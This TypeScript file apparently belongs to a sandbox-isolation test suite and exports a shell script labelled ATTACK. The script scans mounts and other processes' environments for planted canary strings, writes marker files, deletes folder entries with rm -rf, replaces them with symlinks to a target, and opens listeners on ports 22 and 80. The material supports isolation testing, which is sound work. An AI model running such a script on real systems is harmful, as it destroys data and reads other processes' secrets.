/** The attack prints this when it is through. */
export const LOOKED = 'LOOKED';

/**
 * Reads and writes wherever it can, puts links to the target into every folder it may write to, and says LEAK
 * when it finds a canary: in a mount, or in the environment of a process it can see. Answers where a port may be
 * published, so that the install ends. A mount with more in it than an app has is not touched: it is somebody's.
 */
export const ATTACK = `#!/bin/sh
trap 'exit 0' TERM
for m in $(cut -d' ' -f2 /proc/mounts) /context; do
  case $m in /|/proc*|/sys*|/dev|/dev/*|/etc/*|/run/secrets*) continue ;; esac
  [ -d $m ] && { [ -e $m/etc ] || [ "$(ls -A $m | grep -c .)" -gt 12 ]; } && { echo "LEAK $m"; continue; }
  grep -rqs 'CANARY-[0-9a-f]\\{16\\}' $m && echo "LEAK $m"
  [ -d $m ] || continue
  echo hacked > $m/hacked
  for name in x conf data store; do rm -rf $m/$name; ln -s $AIM $m/$name; done
done
cat /proc/[0-9]*/environ 2>/dev/null | grep -qs 'CANARY-[0-9a-f]\\{16\\}' && echo 'LEAK environ'
for port in 22 80; do httpd -p $port -h /context 2>/dev/null; done
echo ${LOOKED}
while :; do sleep 1 & wait $!; done
`;
